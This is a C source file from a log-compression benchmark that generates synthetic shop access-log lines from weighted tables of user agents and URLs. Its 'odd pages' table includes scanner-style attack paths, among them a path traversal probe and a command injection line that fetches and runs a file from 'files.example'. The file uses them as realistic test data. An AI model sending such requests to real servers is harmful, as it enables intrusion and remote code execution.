/* The mix decides how well a corpus packs and how long its lines are, and with that the ratio to gzip: about as many
 * browsers, apps, bots and scanners as a public shop sees, which makes an ALB line 650 bytes on average.
 *
 * Threads: const tables, pure functions. */
#include "bench/generate_words.h"

#define WEIGHT_SUM 1000

const struct generate_template generate_agents[] = {
    {280, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/~.0.0.0 "
          "Safari/537.36"},
    {140, "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
          "Version/18.5 Mobile/15E148 Safari/604.1"},
    {90, "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/~.0.0.0 "
         "Mobile Safari/537.36"},
    {70, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/~.0.0.0 "
         "Safari/537.36"},
    {60, "Mozilla/5.0 (X11; Linux x86_64; rv:~.0) Gecko/20100101 Firefox/~.0"},
    {50, "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:~.0) Gecko/20100101 Firefox/~.0"},
    {80, "ExampleShop/6.2.~ (iOS 18.5; iPhone15,2)"},
    {70, "okhttp/4.12.0"},
    {30, "Go-http-client/2.0"},
    {30, "python-requests/2.32.3"},
    {25, "curl/8.~.1"},
    {25, "Mozilla/5.0 (compatible; examplebot/2.1; +https://bot.example/about)"},
    {15, "node-fetch"},
    {15, "-"},
    {10, "axios/1.7.~"},
    {10, "ELB-HealthChecker/2.0"},
};

const struct generate_template generate_pages[] = {
    {130, "/"},
    {80, "/products/#"},
    {80, "/static/js/app.$.js"},
    {70, "/static/css/main.$.css"},
    {110, "/images/products/#_large.webp"},
    {60, "/images/products/#_thumb.webp?w=320&h=320&fit=crop&v=$"},
    {110, "/api/v2/items/#?fields=id,name,price,stock&locale=en-GB"},
    {70, "/api/v2/search?q=@&page=#&sort=price&order=asc&session=$"},
    {50, "/search?q=@%20@&category=#&utm_source=newsletter&utm_medium=email&utm_campaign=autumn"},
    {40, "/account/orders/#"},
    {30, "/api/v2/recommendations?user=$$&limit=20&context=@"},
    {30, "/login?next=%2Faccount%2Forders%2F#"},
    {25, "/favicon.ico"},
    {20, "/robots.txt"},
    {20, "/health"},
    {20, "/blog/2026/10/@-and-@"},
    {15, "/.env"},
    {15, "/wp-login.php"},
    {15, "/media/$$/segment#.ts?token=$$$$&expires=17931#"},
    {10, "/download/report-#.pdf?signature=$$$$$$$$"},
};

const struct generate_template generate_calls[] = {
    {350, "/api/v2/cart/#/items"},
    {200, "/api/v2/events?batch=$"},
    {150, "/graphql?operation=@Query"},
    {100, "/login"},
    {100, "/checkout/#/confirm"},
    {60, "/api/v2/items/#"},
    {40, "/xmlrpc.php"},
};

const struct generate_template generate_odd_agents[] = {
    {300, "\\x22Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36\\x22"},
    {300, "Caf\\xC3\\xA9App/3.~ (\\xE6\\x97\\xA5\\xE6\\x9C\\xAC; Android 14)"},
    {200, "\\xD0\\x91\\xD1\\x80\\xD0\\xB0\\xD1\\x83\\xD0\\xB7\\xD0\\xB5\\xD1\\x80/~.0"},
    {100, "\\x00000022OldAgent/1.~\\x00000022"},
    {100, "Broken\\xFF\\xFEAgent/2.~"},
};

const struct generate_template generate_odd_pages[] = {
    {300, "/search?q=\\x22@ @\\x22&page=#"},
    {300, "/files?name=..\\x5C..\\x5C@.ini"},
    {250, "/tags/\\xF0\\x9F\\x8E\\x81/\\xC3\\xBCber-@"},
    {150, "/shell?cd+/tmp;wget+ files.example/@;sh+/tmp/@"},
};

static const char *const search_words[] = {
    "lamp", "garden", "bicycle", "coffee",   "winter", "camera", "paper",  "violin", "desk",   "ladder", "marble",
    "sail", "copper", "ginger",  "notebook", "kettle", "rope",   "saddle", "tiles",  "walnut", "zipper", "anchor",
};

const char *generate_words_pick(const struct generate_template *table, uint64_t bits) {
    uint32_t left = dice_scale(bits, WEIGHT_SUM);
    while (left >= table->weight) left -= (table++)->weight;
    return table->text;
}

void generate_words_put(struct put *out, const char *text, struct dice *dice, uint64_t identity) {
    for (;;) {
        size_t plain = strcspn(text, "#$@~");
        put_bytes(out, text, plain);
        text += plain;
        switch (*text++) {
        case '#': put_number(out, dice_below(dice, 100000)); break;
        case '$': put_hex(out, dice_next(dice), 8); break;
        case '@': put_text(out, search_words[dice_below(dice, sizeof search_words / sizeof search_words[0])]); break;
        case '~': put_number(out, 120 + (identity >> 40) % 24); break;
        default: return;
        }
    }
}
